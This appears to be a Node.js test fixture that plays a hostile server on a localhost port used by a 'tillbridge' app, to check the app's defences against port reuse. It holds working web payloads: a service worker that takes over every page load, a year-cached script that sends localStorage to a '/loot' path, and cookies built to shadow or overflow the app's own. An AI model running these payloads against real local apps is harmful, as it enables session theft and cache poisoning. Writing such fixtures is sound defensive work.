/**
 * Another user's server at a port that the till had or will have. `node stranger.mjs PORT ADDRESS…` prints `listening`
 * or `refused` for each address, then a line of JSON for each request. Its page plants a service worker, a cached
 * script and cookies.
 */
import { createServer } from 'node:http';

const [port, ...addresses] = process.argv.slice(2);
const say = (/** @type {unknown} */ line) => void process.stdout.write(`${JSON.stringify(line)}\n`);

const cookies = [
  ...['', '-kiosk', '-display'].map((scope) => `tillbridge-${port}${scope}=evil; Path=/; Max-Age=31536000`),
  `tillbridge-${port}=evil; Path=/contract; Max-Age=31536000`,
  ...['localhost', '.localhost'].map((domain) => `tillbridge-${port}=evil; Domain=${domain}; Max-Age=31536000`),
  // The fillers exceed the header size that a Node server accepts.
  ...Array.from({ length: 6 }, (_, at) => `filler${at}=${'x'.repeat(4_000)}; Path=/; Max-Age=31536000`),
];
const owned = `document.title = 'OWNED'; fetch('/loot?' + encodeURIComponent(JSON.stringify({ ...localStorage })));`;
const worker = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => event.respondWith(new Response('<title>OWNED</title>', { headers: { 'content-type': 'text/html' } })));`;
const page = `<!doctype html><title>planting</title><script>
(async () => {
  const cached = await fetch('/assets/main-1a2b.js', { cache: 'reload' }).then((answer) => answer.status);
  await navigator.serviceWorker.register('/sw.js');
  await navigator.serviceWorker.ready;
  document.title = 'planted ' + cached;
})();
</script>`;

const server = () =>
  createServer({ maxHeaderSize: 1_000_000 }, (request, response) => {
    const { url = '/', headers } = request;
    say({
      host: headers.host,
      url,
      cookie: headers.cookie ?? '',
      keys: headers['sec-websocket-protocol'] ?? headers['tillbridge-key'] ?? '',
    });
    if (url === '/sw.js') response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
    else if (url.startsWith('/assets/')) {
      response
        .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'max-age=31536000, immutable' })
        .end(owned);
    } else response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': cookies }).end(page);
  });

let left = addresses.length;
for (const host of addresses) {
  const own = server();
  own.on('upgrade', ({ url, headers }, socket) => {
    say({ host: headers.host, url, cookie: headers.cookie ?? '', keys: headers['sec-websocket-protocol'] ?? '' });
    socket.destroy();
  });
  own.once('error', (error) => {
    say({ refused: host, why: /** @type {NodeJS.ErrnoException} */ (error).code });
    if (--left === 0) say('tried');
  });
  own.listen({ host, port: Number(port), ipv6Only: host === '::1' }, () => {
    say({ listening: host });
    if (--left === 0) say('tried');
  });
}
